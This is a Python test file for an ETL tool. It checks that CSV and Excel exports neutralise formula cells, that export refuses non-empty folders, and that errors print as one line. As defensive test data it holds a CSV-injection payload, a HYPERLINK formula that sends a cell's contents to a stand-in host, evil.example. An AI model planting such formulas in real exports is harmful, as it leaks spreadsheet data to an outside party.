"""`etl export` and the briefing workbook are safe to open and safe to aim (issue 22,
items 3, 8 and 12): CSV cells never run as formulas (Parquet keeps the text as it
is), a folder holding other files is not written into without --force, and a damaged
store, an unwritable output or a full disk give one line and an exit status each."""
from __future__ import annotations

import errno
import io
import subprocess
import sys
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from openpyxl import load_workbook
from test_store import make_claims, make_report

from etl import cli, errors
from etl.exports import tables
from etl.store import Store

ROOT = Path(__file__).resolve().parents[1]
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
TEXT = "-2+3发放慰问金27万元。"


def _hostile_store(path) -> Store:
    s = Store(path)
    report = make_report(TEXT, "@evil.txt", title=HOSTILE_TITLE, organisation="+机关工委")
    claims = make_claims(TEXT, "@evil.txt", [("27万元", "270000", "元", "money", "exact", "=1+1")])
    claims[0].sentence = "-2+3发放慰问金27万元。"
    s.save_report(report, claims, path="@evil.txt")
    return s


def test_export_csv_cells_never_start_a_formula_and_parquet_stays_raw(tmp_path):
    s = _hostile_store(tmp_path / "f.duckdb")
    paths = s.export(tmp_path / "out")
    claims = pd.read_csv(paths["claims.csv"], encoding="utf-8-sig", dtype=str)
    reports = pd.read_csv(paths["reports.csv"], encoding="utf-8-sig", dtype=str)
    for df in (claims, reports):
        for col in df.columns:
            cells = df[col].dropna()
            assert not cells.str.startswith(("=", "+", "-", "@")).any(), col
    assert reports.loc[0, "title"] == "'" + HOSTILE_TITLE
    assert reports.loc[0, "organisation"] == "'+机关工委"
    assert claims.loc[0, "subject"] == "'=1+1"
    assert claims.loc[0, "value"] == "270000" or float(claims.loc[0, "value"]) == 270000
    # the same columns as before, in the same order, numbers untouched
    assert list(claims.columns) == list(s.query_df("SELECT * FROM claims_effective LIMIT 0").columns)
    back = pd.read_parquet(paths["reports.parquet"])
    assert back.loc[0, "title"] == HOSTILE_TITLE
    assert pd.read_parquet(paths["claims"]).loc[0, "subject"] == "=1+1"


def test_briefing_workbook_title_cell_is_text_not_a_formula():
    sheet = tables.Sheet(pd.DataFrame({"a": [1]}), "表", "表", "来源")
    wb = load_workbook(io.BytesIO(tables.workbook_bytes([sheet], about=HOSTILE_TITLE)))
    cell = wb[tables.NOTES_SHEET]["A1"]
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE_TITLE


def test_export_refuses_a_folder_that_is_not_a_previous_export(tmp_path):
    s = _hostile_store(tmp_path / "f.duckdb")
    out = tmp_path / "mine"
    (out / "claims").mkdir(parents=True)
    keep = out / "claims" / "my-notes.txt"
    keep.write_text("不要删除", encoding="utf-8")
    (out / "thesis.docx").write_bytes(b"x")
    with pytest.raises(Exception) as e:
        s.export(out)
    assert type(e.value).__name__ == "ExportRefused"
    assert keep.read_text(encoding="utf-8") == "不要删除"
    assert sorted(p.name for p in out.iterdir()) == ["claims", "thesis.docx"]
    # a previous export is written over; --force writes anyway
    again = tmp_path / "again"
    s.export(again)
    s.export(again)
    s.export(out, force=True)
    assert (out / "claims.csv").exists() and (out / "thesis.docx").exists()


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "etl", *args], cwd=ROOT, capture_output=True,
                          text=True, timeout=120)


def _one_line(r: subprocess.CompletedProcess) -> str:
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1, r.stderr
    assert "Traceback" not in r.stderr and "/tmp" not in lines[0]
    return lines[0]


def test_cli_export_into_a_folder_with_other_files(tmp_path):
    db = tmp_path / "f.duckdb"
    _hostile_store(db).close()
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.txt").write_text("x")
    r = _cli("export", "--db", str(db), "--out", str(out))
    assert r.returncode == errors.OUT_NOT_EMPTY and "--force" in _one_line(r)
    assert sorted(p.name for p in out.iterdir()) == ["a.txt"]
    r = _cli("export", "--db", str(db), "--out", str(out), "--force")
    assert r.returncode == 0, r.stderr


def test_cli_damaged_store_and_unwritable_places(tmp_path):
    bad = tmp_path / "bad.duckdb"
    bad.write_bytes(b"garbage" * 4000)
    r = _cli("export", "--db", str(bad), "--out", str(tmp_path / "o"))
    assert r.returncode == errors.STORE_CORRUPT and "损坏" in _one_line(r)
    r = _cli("run", "data/corpus/000_35e2ab27f9b7f4d4.txt", "--db", str(bad))
    assert r.returncode == errors.STORE_CORRUPT and "damaged" in _one_line(r)
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    r = _cli("run", "data/corpus/000_35e2ab27f9b7f4d4.txt", "--db", str(a_file / "x.duckdb"))
    assert r.returncode == errors.CANNOT_WRITE and "无法" in _one_line(r)
    good = tmp_path / "good.duckdb"
    _hostile_store(good).close()
    r = _cli("export", "--db", str(good), "--out", str(a_file))
    assert r.returncode == errors.CANNOT_WRITE, r.stderr
    _one_line(r)
    assert "5  the store is damaged" in _cli("--help").stdout


@pytest.mark.parametrize("exc", [OSError(errno.ENOSPC, "No space left on device"),
                                 duckdb.IOException("IO Error: Could not write file: No space left on device")])
def test_cli_full_disk_is_one_line(tmp_path, monkeypatch, capsys, exc):
    db = tmp_path / "f.duckdb"
    _hostile_store(db).close()

    def full(self, out, force=False):
        raise exc
    monkeypatch.setattr(Store, "export", full)
    code = cli.main(["export", "--db", str(db), "--out", str(tmp_path / "o")])
    err = capsys.readouterr().err.strip()
    assert code == errors.DISK_FULL and err.count("\n") == 0 and "磁盘已满" in err


def test_explain_leaves_unknown_errors_alone():
    assert errors.explain(ValueError("a bug")) is None
    assert errors.explain(duckdb.IOException('Cannot open file "x": Permission denied')).code == errors.CANNOT_WRITE
